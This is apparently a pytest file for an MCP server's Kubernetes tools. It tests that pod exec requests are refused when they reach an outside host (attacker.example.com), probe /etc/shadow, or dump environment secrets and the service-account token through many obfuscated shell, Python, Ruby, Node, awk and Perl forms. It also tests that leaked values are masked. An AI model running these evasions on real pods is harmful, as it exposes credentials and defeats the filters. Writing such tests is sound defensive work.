"""exec_in_pod cannot reach beyond the pod, run_in_pod refuses environment dumps, and what comes back
is masked: through the real MCP client against the sandbox's Kubernetes (issue 22, items 3 and 4).

exec_in_pod is pre-approved by the commands as a read: an allowlisted diagnostic with a free
argument was an outbound connection from a production pod (``pg_isready -h attacker.example.com``)
or a probe of any path (``df -h /etc/shadow``).
"""

from __future__ import annotations

import pytest

from tests.kubernetes.test_kubernetes_tools import HEALTHY_POD, ok, refused

DB_POD = {"pod": "replica-postgres-0", "namespace": "databases"}


def execs(sandbox) -> int:
    return sum(1 for _, path in sandbox.requests if path.endswith("/exec"))


@pytest.mark.parametrize("argv,why", [
    # the three reported
    (["pg_isready", "-h", "attacker.example.com", "-p", "5432"], "is not this pod's database"),
    (["pg_isready", "-d", "postgresql://u:p@attacker.example.com/db"], "not a plain database name"),
    (["df", "-h", "/etc/shadow"], "is not a data or log volume"),
    # the same kinds in other forms
    (["pg_isready", "-hattacker.example.com"], "is not this pod's database"),
    (["pg_isready", "-qhattacker.example.com"], "is not this pod's database"),
    (["pg_isready", "--host=attacker.example.com"], "is not this pod's database"),
    (["pg_isready", "--host", "attacker.example.com"], "is not this pod's database"),
    (["pg_isready", "-h", "localhost,attacker.example.com"], "is not this pod's database"),
    (["pg_isready", "-h", "10.0.0.8"], "is not this pod's database"),
    (["pg_isready", "-h", "/etc"], "is not this pod's database"),
    (["pg_isready", "--ho=attacker.example.com"], "option --ho is not allowed"),
    (["pg_isready", "-d", "host=attacker.example.com dbname=x"], "not a plain database name"),
    (["pg_isready", "--dbname=service=evil"], "not a plain database name"),
    (["pg_isready", "-p", "6379"], "is not this pod's database port"),
    (["pg_isready", "--", "-h", "attacker.example.com"], "'--' is not accepted"),
    (["pg_isready", "attacker.example.com"], "takes only options"),
    (["df", "-h", "/var/lib/postgresql/../../../etc/shadow"], "not a plain absolute path"),
    (["df", "--", "/etc"], "'--' is not accepted"),
    (["df", "-h", "/root/.ssh"], "is not a data or log volume"),
    (["df", "--output=source", "/"], "option --output is not allowed"),
])
async def test_an_allowlisted_diagnostic_with_an_argument_that_leaves_the_pod_is_refused_before_anything_runs(
        make_server, sandbox, argv, why):
    msg = await refused(make_server(), "exec_in_pod", {**DB_POD, "argv": argv})
    assert why in msg and "Usage:" in msg and "run_in_pod" in msg
    assert execs(sandbox) == 0


@pytest.mark.parametrize("argv", [
    ["pg_isready"],  # the pod's own PGHOST, as configured in the pod
    ["pg_isready", "-h", "localhost", "-p", "5432"],
    ["pg_isready", "-q", "-t", "3", "-h", "/var/run/postgresql"],
    ["pg_isready", "--host=127.0.0.1", "--port=5432", "-U", "postgres", "-d", "postgres"],
    ["df", "-h"],
    ["df", "-h", "/var/lib/postgresql/data"],
    ["df", "-hT", "/", "/var/log"],
])
async def test_the_legitimate_diagnostics_still_run(make_server, sandbox, argv):
    out = await ok(make_server(), "exec_in_pod", {**DB_POD, "argv": argv})
    assert out["exit_code"] is not None and execs(sandbox) == 1  # it ran (the sandbox answers some with 127)


async def test_dbstats_still_runs_without_reading_the_pod(make_server, sandbox):
    out = await ok(make_server(), "exec_in_pod", {"pod": HEALTHY_POD, "argv": ["python", "manage.py", "dbstats"]})
    assert "Active connections" in out["stdout"]
    assert not any(method == "GET" and path.endswith(f"/pods/{HEALTHY_POD}") for method, path in sandbox.requests)


async def test_pg_isready_may_name_the_database_host_and_port_the_pods_env_configures(make_server, sandbox):
    pod = sandbox.state.pods[("databases", "replica-postgres-0")]
    pod.env = [{"name": "PGHOST", "value": "primary-postgres.databases.svc"}, {"name": "DB_PORT", "value": "6432"},
               {"name": "READ_URL", "value": "postgresql://app@replica-a.databases.svc:5433,replica-b:5434/pay"},
               {"name": "DATABASE_URL", "secret": "db", "key": "url"}]
    server = make_server()
    for argv in (["pg_isready", "-h", "primary-postgres.databases.svc", "-p", "6432"],
                 ["pg_isready", "-h", "replica-a.databases.svc", "-p", "5433"], ["pg_isready", "-h", "replica-b", "-p", "5434"]):
        assert (await ok(server, "exec_in_pod", {**DB_POD, "argv": argv}))["exit_code"] == 0
    msg = await refused(server, "exec_in_pod", {**DB_POD, "argv": ["pg_isready", "-h", "attacker.example.com"]})
    assert "primary-postgres.databases.svc" in msg  # says what is allowed for this pod


async def test_a_configured_entry_keeps_working_and_its_dots_match_plain_words_only(make_server, sandbox):
    server = make_server(exec_allowlist="redis-cli info ...; pg_isready -h primary-postgres.databases.svc")
    sandbox.state.exec_rules["databases"].insert(0, {"argv_prefix": ["redis-cli"], "stdout": "redis_version:7\n"})
    assert (await ok(server, "exec_in_pod", {**DB_POD, "argv": ["redis-cli", "info", "memory"]}))["exit_code"] == 0
    assert (await ok(server, "exec_in_pod", {**DB_POD, "argv": ["pg_isready", "-h", "primary-postgres.databases.svc"]}))[
        "exit_code"] == 0
    for argv in (["redis-cli", "info", "-h", "attacker.example.com"], ["redis-cli", "info", "attacker.example.com"],
                 ["redis-cli", "info", "/etc/shadow"]):
        assert "not on the read-only diagnostic allowlist" in await refused(server, "exec_in_pod", {**DB_POD, "argv": argv})


@pytest.mark.parametrize("argv", [
    ["sh", "-c", "printenv STRIPE_API_KEY"],
    ["python", "-c", "import os; print(os.getenv('STRIPE_API_KEY'))"],
    ["busybox", "env"],
    ["sh", "-c", "cat /proc/1/env*"],
    # relatives
    ["sh", "-c", "echo $STRIPE_API_KEY"],
    ["bash", "-c", "export -p"],
    ["bash", "-c", "declare -x"],
    ["bash", "-c", "set"],
    ["sh", "-c", "pr\"\"intenv"],
    ["toybox", "printenv"],
    ["timeout", "5", "env"],
    ["sh", "-c", "cd /proc/1 && cat envir?n"],
    ["sh", "-c", "cat /proc/1/envir$(echo o)n"],
    ["ruby", "-e", "p ENV.to_h"],
    ["node", "-e", "console.log(process.env)"],
    ["awk", "BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }"],
    ["perl", "-e", "print %ENV"],
    ["ps", "eww"],
    ["cat", "/var/run/sec*/kub*/serv*/token"],
])
async def test_run_in_pod_refuses_environment_dumps_in_their_many_forms(make_server, sandbox, argv):
    msg = await refused(make_server(), "run_in_pod", {"pod": HEALTHY_POD, "argv": argv})
    assert "refused" in msg and "Secret" in msg
    assert execs(sandbox) == 0


async def test_run_in_pod_names_the_secret_a_variable_comes_from(make_server):
    msg = await refused(make_server(), "run_in_pod", {"pod": HEALTHY_POD, "argv": ["sh", "-c", "echo \"${DATABASE_URL}\""]})
    assert "DATABASE_URL comes from Secret payments-db key url" in msg


async def test_run_in_pod_still_runs_ordinary_commands(make_server, sandbox):
    sandbox.state.exec_rules["payments"].insert(0, {"argv": ["sh", "-c", "set -e; python manage.py check"], "stdout": "ok\n"})
    out = await ok(make_server(), "run_in_pod", {"pod": HEALTHY_POD, "argv": ["sh", "-c", "set -e; python manage.py check"]})
    assert out["stdout"].count("ok") == 1 and out["exit_code"] == 0


async def test_what_a_command_prints_is_masked_when_it_reveals_the_environment_anyway(make_server, sandbox):
    """A script already in the image can print its environment (no filter of the argv sees that):
    the values of the pod's Secret-backed variables, secret-looking names and URL passwords are masked."""
    lines = ("STRIPE_API_KEY=sk_live_51HxQ9a2b3c4d5e6f\nDATABASE_URL=postgres://payments:hunter2pw@primary-postgres:5432/pay\n"
             "LOG_LEVEL=info\nSESSION_SECRET=abcdef123456\n{'DATABASE_URL': 'postgres://payments:hunter2pw@db/pay'}\n")
    environ = lines.replace("\n", "\x00")  # as /proc/1/environ holds it
    sandbox.state.exec_rules["payments"][:0] = [{"argv": ["/app/bin/show-config"], "stdout": lines},
                                                {"argv": ["/app/bin/show-settings"], "stdout": environ},
                                                {"argv": ["uptime"], "stdout": lines}]
    server = make_server()
    outs = [await ok(server, "run_in_pod", {"pod": HEALTHY_POD, "argv": ["/app/bin/show-config"]}),
            await ok(server, "run_in_pod", {"pod": HEALTHY_POD, "argv": ["/app/bin/show-settings"]}),
            await ok(server, "exec_in_pod", {"pod": HEALTHY_POD, "argv": ["uptime"]})]
    for out in outs:
        text = out["stdout"]
        assert "sk_live_51HxQ9a2b3c4d5e6f" not in text and "hunter2pw" not in text and "abcdef123456" not in text
        assert "STRIPE_API_KEY=[redacted]" in text
    assert "LOG_LEVEL=info" in outs[0]["stdout"] and "LOG_LEVEL=info" in outs[2]["stdout"]
